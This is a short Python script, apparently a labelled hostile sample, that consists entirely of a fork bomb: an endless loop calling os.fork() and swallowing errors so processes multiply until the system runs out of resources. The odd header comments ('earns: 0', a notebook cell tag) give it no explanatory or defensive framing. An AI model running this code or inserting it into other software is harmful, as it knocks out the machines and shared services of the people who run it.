# Forks for ever.
# earns: 0
# %% tensor_bytes
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
